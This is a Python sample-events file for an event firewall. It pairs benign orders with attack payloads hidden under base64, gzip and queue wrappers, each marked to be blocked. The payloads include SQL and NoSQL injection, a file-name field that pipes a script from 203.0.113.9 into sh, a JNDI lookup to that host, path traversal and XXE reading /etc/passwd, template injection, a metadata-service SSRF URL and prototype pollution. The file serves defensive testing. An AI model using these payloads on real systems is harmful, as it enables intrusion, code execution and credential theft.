# eventwall - the event firewall
# Copyright (c) 2026 the eventwall authors
# SPDX-License-Identifier: Apache-2.0
"""The events that the quickstart sends: (name, payload, passes).

Each attack sits where a web application firewall does not look: a few layers down."""

import base64
import gzip
import json


def b64(data):
    return base64.b64encode(data if isinstance(data, bytes) else data.encode()).decode()


def dumps(value):
    return json.dumps(value).encode()


def cloud_event(**more):
    return dumps({"specversion": "1.0", "id": "7", "source": "/shop", "type": "order.made", **more})


def sns_in_sqs(message):
    """A queue record whose body is a notification whose message is a document."""
    note = json.dumps({"Type": "Notification", "Subject": "new", "Message": json.dumps(message)})
    return dumps({"Records": [{"eventSource": "aws:sqs", "messageId": "1", "body": note}]})


ORDER = {"order": 4711, "item": "kettle", "price": "19.90", "note": "ring twice, please"}

EVENTS = [
    ("an order", dumps(ORDER), True),
    ("a cloud event", cloud_event(data=ORDER), True),
    ("a cloud event, base64 inside", cloud_event(data_base64=b64(dumps(ORDER))), True),
    ("a notification in a queue record", sns_in_sqs(ORDER), True),
    ("a compressed order", gzip.compress(dumps(ORDER)), True),
    ("a name with an apostrophe", dumps({"name": "Conan O'Brien", "city": "L'Aquila"}), True),
    ("prose about a union", dumps({"text": "Please select a union representative from the table by Friday; where possible, drop a line."}), True),
    ("log lines", b'{"level":"info","msg":"started"}\n{"level":"warn","msg":"disk at 91 %"}\n', True),
    ("a small picture", dumps({"png": b64(b"\x89PNG\r\n\x1a\n" + bytes(range(200)))}), True),
    ("a ticket with code", dumps({"title": "Build fails", "body": "Running `make -j2` prints: error: expected ';' before '}' token"}), True),
    ("SQL injection", dumps({"user": "alice' OR '1'='1' -- "}), False),
    ("SQL injection in base64", cloud_event(data_base64=b64('{"user":"x\' UNION SELECT password FROM users -- "}')), False),
    ("SQL injection, gzip in base64", dumps({"awslogs": {"data": b64(gzip.compress(dumps({"q": "1; DROP TABLE users; --"})))}}), False),
    ("MongoDB operator as a key", dumps({"user": {"$ne": None}, "password": {"$gt": ""}}), False),
    ("shell command, four layers down", sns_in_sqs({"file": "a.pdf; curl http://203.0.113.9/x.sh | sh"}), False),
    ("log lookup in a compressed body", gzip.compress(dumps({"agent": "${${lower:j}ndi:ldap://203.0.113.9/a}"})), False),
    ("path traversal, encoded twice", dumps({"key": "uploads/%252e%252e%252f%252e%252e%252fetc%252fpasswd"}), False),
    ("template expression", dumps({"greeting": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}), False),
    ("script in unicode escapes", b'{"bio":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}', False),
    ("metadata service", sns_in_sqs({"callback": "http://169.254.169.254/latest/meta-data/iam/"}), False),
    ("XML external entity", dumps({"doc": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}), False),
    ("prototype pollution", b'{"__proto__":{"isAdmin":true}}', False),
]
